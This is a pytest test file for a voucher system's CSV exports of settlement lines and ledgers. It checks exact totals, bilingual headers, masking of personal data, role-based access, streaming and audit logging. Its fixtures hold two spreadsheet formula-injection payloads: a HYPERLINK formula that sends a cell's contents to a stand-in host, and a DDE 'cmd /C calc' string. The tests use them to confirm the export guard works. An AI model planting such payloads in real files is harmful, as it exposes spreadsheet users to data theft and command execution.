"""Spreadsheet exports: a settlement's lines and a programme's ledger (content to the fen against the ledger, the
BOM, headers in both languages, masking, the formula guard, who may download, streaming, a large ledger, and each
download recorded in the audit trail without the personal data it carries)."""

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, timedelta
from decimal import Decimal
from types import GeneratorType
from urllib.parse import unquote

import pytest
from sqlalchemy import func, insert, select

from accounts.enums import Role
from accounts.models import User
from audit import verification
from audit.models import AuditEvent
from core.db import db, utcnow
from core.personal import decrypt, mask_name
from orgs.models import Organisation
from tests.factories import make_user, statements_during
from tests.orgs.helpers import category
from vouchers import catalogue, exports, issuance, ledger, redemption, settlement
from vouchers.enums import LedgerKind, SettlementStatus
from vouchers.models import Voucher
from vouchers.programmes import period_of
from vouchers.redemption_models import LedgerEntry, Settlement

from .helpers import provider, running_programme, world
from .test_views import phone_resident

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
SECONDS = "%Y-%m-%d %H:%M:%S"
CHECK = "已发放 = 已核销 + 已过期 + 已撤销 + 未使用余额"
CHUNK_QUERY = "resident_profiles.real_name"  # only the ledger's chunk query reads the residents' names


@dataclass
class Scene:
    w: object
    resident_user: object
    resident: object
    other_user: object
    other_member: object
    auditor: object
    lines: list
    evil: object
    statement: Settlement
    other_programme: object


@pytest.fixture
def scene(app):
    """Three redemptions last month (¥30.00, ¥12.34 of a service named like a formula, ¥0.05) on one statement;
    this month's vouchers, one of them revoked; another programme's vouchers for the same resident."""
    with app.test_request_context():
        w = world()
        user, person = phone_resident(w.staff, "张秀英")
        other_user, _other = phone_resident(w.staff, "李桂兰")
        evil = catalogue.create_service(w.org, catalogue.ServiceData(
            name=EVIL, category_id=category("elderly").id, price_fen=50_000), actor=w.manager)
        start = utcnow() - timedelta(days=40)
        issuance.issue_to_resident(w.programme, person, actor=w.officer, period=period_of(start), now=start)
        lines = []
        for i, (amount, service) in enumerate(((3000, w.service), (1234, evil), (5, w.service))):
            at = start + timedelta(minutes=i + 1)
            code, _row = redemption.issue_code(person, actor=user, now=at)
            lines.append(redemption.redeem(code, service, amount, f"x{i}", actor=w.manager, now=at).redemption)
        statement = settlement.prepare_settlement(w.programme, w.org, period_of(start), actor=w.officer)
        current = issuance.issue_to_resident(w.programme, person, actor=w.officer)
        ledger.revoke_voucher(current[0], actor=w.officer, reason="发错")
        other_programme = running_programme(w.officer, name="另一个项目")
        issuance.issue_to_resident(other_programme, person, actor=w.officer)
        _org, other_member = provider(w.officer)
        auditor = make_user(Role.AUDITOR)
        db.session.commit()
        return Scene(w, user, person, other_user, other_member, auditor, lines, evil, statement, other_programme)


def parse(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"), newline="")))


def download(client, url: str, **kwargs):
    """GET an export, read to its end inside the request (the test client gives each request its own context, and a
    streamed body read later from the test's context would pop the request's contexts from the wrong one)."""
    return client.get(url, buffered=True, **kwargs)


def fen(text: str) -> int:
    return int(Decimal(text) * 100)


def beijing(moment) -> str:
    return (moment.astimezone(UTC).replace(tzinfo=None) + timedelta(hours=8)).strftime(SECONDS)


def settlement_url(scene) -> str:
    return f"/vouchers/settlements/{scene.statement.id}/lines.csv"


def ledger_url(programme) -> str:
    return f"/vouchers/programmes/{programme.id}/ledger.csv"


# --- a settlement's lines ----------------------------------------------------------------------------

def test_settlement_lines_to_the_fen_with_beijing_times_and_masked_residents(scene, client, login_as):
    login_as(scene.w.officer)
    response = download(client, settlement_url(scene))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    rows = parse(response)
    assert rows[0][:6] == ["时间", "核销编号", "服务", "居民", "金额（元）", "争议"]
    w = scene.w
    # The statement's facts repeat on every row (vouchers.exports.settlement_rows: one table for an import).
    facts = [w.org.name, w.org.uscc or "", scene.statement.period, "1", "待审批", "42.39", ""]
    assert rows[1:-1] == [
        [beijing(scene.lines[0].created_at), str(scene.lines[0].id), w.service.name, "张**", "30.00", "", *facts],
        [beijing(scene.lines[1].created_at), str(scene.lines[1].id), "'" + EVIL, "张**", "12.34", "", *facts],
        [beijing(scene.lines[2].created_at), str(scene.lines[2].id), w.service.name, "张**", "0.05", "", *facts]]
    assert rows[-1] == ["合计", "", "", "", "42.39", "", *facts]
    # The total is the statement's and the ledger's: what was drawn from vouchers for these redemptions.
    redeemed = db.session.scalar(select(func.sum(LedgerEntry.amount_fen)).where(
        LedgerEntry.redemption_id.in_([r.id for r in scene.lines]), LedgerEntry.kind == LedgerKind.REDEEM.value))
    assert fen(rows[-1][4]) == scene.statement.total_fen == -redeemed == sum(fen(r[4]) for r in rows[1:-1])


def test_settlement_lines_in_english_and_the_file_names(scene, client, login_as):
    login_as(scene.w.manager)
    response = download(client, settlement_url(scene), headers={"Accept-Language": "en"})
    rows = parse(response)
    assert rows[0][:5] == ["Time", "Redemption no.", "Service", "Resident", "Amount (yuan)"]
    assert rows[-1][:5] == ["Grand total", "", "", "", "42.39"] and rows[-1][10] == "Prepared"
    statement = scene.statement
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith(
        f'attachment; filename="settlement-{statement.id}-{statement.period}-1.csv"; filename*=UTF-8\'\'')
    assert unquote(disposition.split("''", 1)[1]) == f"settlement-{scene.w.org.name}-{statement.period}-1.csv"
    chinese = download(client, settlement_url(scene), headers={"Accept-Language": "zh-CN"})
    assert unquote(chinese.headers["Content-Disposition"].split("''", 1)[1]) == \
        f"结算明细-{scene.w.org.name}-{statement.period}-第1次.csv"


def test_exports_carry_no_full_name_id_number_or_phone(scene, client, login_as):
    login_as(scene.w.officer)
    bodies = [download(client, url).get_data(as_text=True)
              for url in (settlement_url(scene), ledger_url(scene.w.programme))]
    number = decrypt(scene.resident.id_number_enc)
    for body in bodies:
        assert "张**" in body
        for secret in ("张秀英", "秀英", number, number[6:14], scene.resident_user.phone,
                       scene.resident_user.phone[3:]):
            assert secret not in body


def test_the_pages_link_to_their_exports(scene, client, login_as):
    login_as(scene.w.manager)
    page = client.get(f"/vouchers/settlements/{scene.statement.id}").get_data(as_text=True)
    assert f'id="statement-csv" href="{settlement_url(scene)}"' in page
    client.post("/logout")
    login_as(scene.auditor)
    page = client.get(f"/vouchers/programmes/{scene.w.programme.id}").get_data(as_text=True)
    assert f'id="ledger-csv" href="{ledger_url(scene.w.programme)}"' in page


ROLES = ("resident", "other_resident", "member", "other_member", "staff", "officer", "auditor", "anonymous")
A, F = 200, 403
ALLOWED = {"settlement": (F, F, A, F, F, A, A, 302), "ledger": (F, F, F, F, F, A, A, 302)}


@pytest.mark.parametrize("export", sorted(ALLOWED))
def test_who_may_download_as_who_may_see_the_page(export, scene, client, login_as):
    users = {"resident": scene.resident_user, "other_resident": scene.other_user, "member": scene.w.manager,
             "other_member": scene.other_member, "staff": scene.w.staff, "officer": scene.w.officer,
             "auditor": scene.auditor, "anonymous": None}
    page, url = ((f"/vouchers/settlements/{scene.statement.id}", settlement_url(scene)) if export == "settlement"
                 else (f"/vouchers/programmes/{scene.w.programme.id}", ledger_url(scene.w.programme)))
    missing = "/vouchers/settlements/999999/lines.csv" if export == "settlement" else \
        "/vouchers/programmes/999999/ledger.csv"
    for role, expected in zip(ROLES, ALLOWED[export], strict=True):
        client.post("/logout")
        if users[role] is not None:
            login_as(users[role])
        before = verification.head().seq
        response = download(client, url)
        assert verification.head().seq == before + (expected == A), role  # a refused download leaves no event
        assert response.status_code == expected == client.get(page).status_code, (role, response.status_code)
        if expected != A:
            assert "张**" not in response.get_data(as_text=True)
        if users[role] is not None:
            before = verification.head().seq
            assert download(client, missing).status_code == 404, role
            assert verification.head().seq == before  # nothing was downloaded, nothing is recorded


# --- a programme's ledger ----------------------------------------------------------------------------

def ledger_parts(rows: list[list[str]]) -> tuple[dict, list[str], list[list[str]]]:
    """(the reconciliation block by label, the table's header, its rows) of a ledger export."""
    blank = rows.index([])
    return {r[0]: r[1] for r in rows[:blank]}, rows[blank + 1], rows[blank + 2:]


def test_ledger_every_row_and_the_reconciliation_to_the_fen(scene, client, login_as):
    w = scene.w
    with client.application.test_request_context():  # the statement is paid: a settle row, with its provider
        found = db.session.get(Settlement, scene.statement.id)
        settlement.transition_settlement(found, SettlementStatus.APPROVED, actor=w.officer)
        settlement.transition_settlement(found, SettlementStatus.PAID, actor=w.officer, payment_reference="BOC-1")
        db.session.commit()
    login_as(scene.auditor)
    response = download(client, ledger_url(w.programme))
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    block, header, rows = ledger_parts(parse(response))
    assert header == ["时间", "台账编号", "类型", "服务券编号", "居民编号", "居民", "服务机构", "金额（元）",
                      "核销编号", "结算单编号"]
    stored = db.session.execute(select(LedgerEntry).where(LedgerEntry.programme_id == w.programme.id)
                                .order_by(LedgerEntry.id)).scalars().all()
    assert [int(r[1]) for r in rows] == [e.id for e in stored]  # every row, in order, none of the other programme
    names = {scene.resident.id: "张**", w.resident.id: mask_name(w.resident.real_name)}
    labels = {"issue": "已发放", "redeem": "已核销", "revoke": "已撤销", "settle": "已结算"}
    for row, entry in zip(rows, stored, strict=True):
        assert row == [beijing(entry.created_at), str(entry.id), labels[entry.kind], str(entry.voucher_id or ""),
                       str(entry.resident_id or ""), names.get(entry.resident_id, ""),
                       w.org.name if entry.provider_org_id else "", f"{Decimal(entry.amount_fen) / 100:.2f}",
                       str(entry.redemption_id or ""), str(entry.settlement_id or "")]
    by_kind = {kind: sum(fen(r[7]) for r in rows if r[2] == label) for kind, label in labels.items()}
    recon = ledger.reconciliation(w.programme)
    assert by_kind == {"issue": recon.issued_fen, "redeem": -recon.redeemed_fen, "revoke": -recon.revoked_fen,
                       "settle": recon.settled_fen} == {"issue": 60000, "redeem": -4239, "revoke": -5000,
                                                        "settle": 4239}
    figures = {label: fen(value) for label, value in block.items() if label not in ("服务券项目", "导出时间", CHECK)}
    assert figures == {"预算": recon.budget_fen, "已发放": 60000, "已核销": 4239, "已过期": 0, "已撤销": 5000,
                       "未使用余额": recon.outstanding_fen, "未分配预算": recon.unallocated_fen,
                       "已结算（已支付给服务机构）": 4239}
    assert figures["已发放"] == figures["已核销"] + figures["已过期"] + figures["已撤销"] + figures["未使用余额"]
    assert block[CHECK] == "账目平衡，精确到分。"
    assert block["服务券项目"] == w.programme.name


def test_ledger_in_english(scene, client, login_as):
    login_as(scene.w.officer)
    block, header, rows = ledger_parts(parse(download(client, ledger_url(scene.w.programme),
                                                        headers={"Accept-Language": "en"})))
    assert header[:3] == ["Time", "Entry no.", "Kind"] and header[-1] == "Settlement no."
    assert {r[2] for r in rows} == {"Issued to a resident", "Redeemed", "Revoked"}
    assert block["Issued = redeemed + expired + revoked + outstanding"] == "The books balance to the fen."


def test_ledger_guards_text_a_provider_typed(scene, client, login_as):
    w = scene.w
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.get(Organisation, w.org.id).name = name
    db.session.commit()
    login_as(w.officer)
    _block, _header, rows = ledger_parts(parse(download(client, ledger_url(w.programme))))
    redeemed = [r for r in rows if r[2] == "已核销"]
    assert redeemed and {r[6] for r in redeemed} == {"'" + name}
    assert all(r[7].startswith("-") for r in redeemed)  # amounts keep their sign: a figure, not text


def test_ledger_streams_a_chunk_at_a_time(scene, client, login_as, monkeypatch):
    monkeypatch.setattr(exports, "LEDGER_CHUNK", 4)
    login_as(scene.w.officer)
    total = db.session.scalar(select(func.count(LedgerEntry.id)).where(
        LedgerEntry.programme_id == scene.w.programme.id))
    assert total > 8
    statements, response = statements_during(lambda: download(client, ledger_url(scene.w.programme)))
    assert response.status_code == 200 and "Content-Length" not in response.headers  # sent as it was written
    chunked = [s for s in statements if CHUNK_QUERY in s]
    assert len(chunked) == total // 4 + 1  # keyset chunks of four, the last one short
    assert all("LIMIT" in s and "voucher_ledger.id >" in s for s in chunked)  # keyset: after the last id seen
    assert len(ledger_parts(parse(response))[2]) == total


def test_ledger_response_is_a_generator_that_reads_as_it_writes(scene, app):
    with app.test_request_context():
        programme = db.session.get(type(scene.w.programme), scene.w.programme.id)
        response = exports.ledger_csv(programme, actor=scene.w.officer)
        assert response.is_streamed and isinstance(response.response, GeneratorType)
        rows = exports.ledger_rows(programme, chunk=3)
        # 11 rows of reconciliation, a blank line, the header, the first ledger row
        statements, _head = statements_during(lambda: [next(rows) for _ in range(14)])
        assert sum(CHUNK_QUERY in s for s in statements) == 1  # only the first chunk so far
        assert not [o for o in db.session.identity_map.values() if isinstance(o, LedgerEntry)]
        rest, _ = statements_during(lambda: list(rows))
        total = db.session.scalar(select(func.count(LedgerEntry.id)).where(
            LedgerEntry.programme_id == programme.id))
        assert sum(CHUNK_QUERY in s for s in rest) == total // 3 + 1 - 1


def test_a_large_ledger_exports_exactly(scene, client, login_as):
    """20,000 vouchers of ¥33.33: the export streams them and the figures agree to the fen. (In chunks of a constant
    number of queries: the test above counts them. Its time is not asserted: speed is measured in bench/, and a
    wall-clock bound here failed under load.)"""
    w, count, face = scene.w, 20_000, 3333
    officer_id, resident_id = w.officer.id, scene.resident.id  # (read before this request's own session starts)
    with client.application.test_request_context():
        officer = db.session.get(User, officer_id)
        big = running_programme(officer, name="大项目", budget_fen=10**12, face_value_fen=face)
        now = utcnow()
        db.session.execute(insert(Voucher), [
            {"programme_id": big.id, "resident_id": resident_id, "period": "2026-01", "seq": i + 1,
             "face_value_fen": face, "balance_fen": face, "status": "active", "issued_at": now,
             "expires_at": now + timedelta(days=60)} for i in range(count)])
        ids = db.session.scalars(select(Voucher.id).where(Voucher.programme_id == big.id)).all()
        ledger.add_entries([{"programme_id": big.id, "voucher_id": vid, "resident_id": resident_id,
                             "provider_org_id": None, "kind": "issue", "amount_fen": face, "redemption_id": None,
                             "settlement_id": None, "batch_id": None, "actor_id": officer_id} for vid in ids])
        assert ledger.allocate(big.id, count * face)
        db.session.commit()
    login_as(w.officer)
    rows = parse(download(client, ledger_url(big)))
    block, _header, lines = ledger_parts(rows)
    assert len(lines) == count and {r[6] for r in lines} == {""}
    assert sum(fen(r[7]) for r in lines) == count * face == fen(block["已发放"]) == fen(block["未使用余额"])
    assert block["已发放"] == "666600.00"
    assert block[CHECK] == "账目平衡，精确到分。"


# --- each download in the audit trail ------------------------------------------------------------------

def events_since(seq: int) -> list[AuditEvent]:
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.seq > seq).order_by(AuditEvent.seq)))


@pytest.mark.parametrize("export", ["settlement", "ledger"])
def test_a_download_is_one_audit_event_naming_who_what_and_how_many_rows_and_no_one_in_it(export, scene, client,
                                                                                          login_as):
    w = scene.w
    login_as(scene.auditor)  # auditors only read, but what they take away is recorded as anyone's is
    before = verification.head().seq
    if export == "settlement":
        response = download(client, settlement_url(scene))
        rows = len(parse(response)) - 2  # the header and the total aside
        expected = ("export.settlement_lines", "voucher_settlements", str(scene.statement.id),
                    {"format": "csv", "rows": rows})
    else:
        response = download(client, ledger_url(w.programme))
        rows = len(ledger_parts(parse(response))[2])
        last = db.session.scalar(select(func.max(LedgerEntry.id)).where(LedgerEntry.programme_id == w.programme.id))
        expected = ("export.programme_ledger", "voucher_programmes", str(w.programme.id),
                    {"format": "csv", "rows": rows, "last_entry_id": last})
    assert response.status_code == 200 and rows >= 3
    added = events_since(before)
    assert len(added) == 1  # exactly one event for the download, whatever else the request did
    event = added[0]
    assert (event.action, event.target_type, event.target_id, json.loads(event.data)) == expected
    assert event.actor_id == scene.auditor.id and event.actor_roles == "auditor"
    number = decrypt(scene.resident.id_number_enc)
    residents = (scene.resident, w.resident)
    for secret in [p.real_name for p in residents] + [mask_name(p.real_name) for p in residents] + [
            number, number[-4:], scene.resident.id_masked, scene.resident_user.phone]:
        assert secret not in event.data
    assert verification.verify().ok


def test_the_audit_log_names_the_downloads_in_the_readers_language(scene, client, login_as):
    login_as(scene.w.officer)
    download(client, settlement_url(scene))
    download(client, ledger_url(scene.w.programme))
    client.post("/logout")
    login_as(scene.auditor)
    chinese = client.get("/audit/?action=export.", headers={"Accept-Language": "zh-CN"}).get_data(as_text=True)
    assert "下载结算明细（CSV）" in chinese and "下载服务券项目台账（CSV）" in chinese
    assert '<optgroup label="数据导出">' in chinese  # the kind of event a reader filters by
    english = client.get("/audit/?action=export.", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "Settlement lines downloaded (CSV)" in english and "Voucher programme ledger downloaded (CSV)" in english
